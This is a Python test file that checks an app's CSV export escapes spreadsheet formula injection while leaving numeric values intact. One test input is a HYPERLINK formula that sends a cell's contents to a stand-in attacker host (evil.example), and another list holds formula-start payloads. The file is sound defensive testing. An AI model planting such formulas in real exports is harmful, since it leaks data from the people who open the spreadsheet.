"""CSV exports cannot smuggle spreadsheet formulas: text starting a formula is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io

from nicegui.testing import User

from app.core.context import current
from app.engine.engine import Engine
from components.funnel_panels import to_csv
from tests.auth_helpers import login
from tests.engine_support import add_contacts, publish, track
from tests.funnel_support import experiment_doc

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


async def test_dashboard_csv_neutralises_a_journey_named_like_a_formula(user: User) -> None:
    await login(user, "marketer")
    await user.open("/")
    ctx = current()
    publish(ctx, experiment_doc(name=FORMULA))
    contacts = add_contacts(ctx, 3)
    track(ctx, contacts, "signup")
    Engine(ctx).run()
    await user.open("/dashboard")
    user.find(marker="journeys-csv").click()
    rows = _read((await user.download.next()).content)
    assert rows[1][0] == "'" + FORMULA
    assert rows[1][1] == "3"  # the count is still a number a spreadsheet can sum


def test_every_formula_start_is_neutralised_and_numbers_are_left_alone() -> None:
    hostile = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    rows = _read(to_csv(["-header", "plain"], [[*hostile, -3, 2.5, "ok", "a=b"]]))
    assert rows[0] == ["'-header", "plain"]
    assert rows[1] == [*("'" + h for h in hostile), "-3", "2.5", "ok", "a=b"]
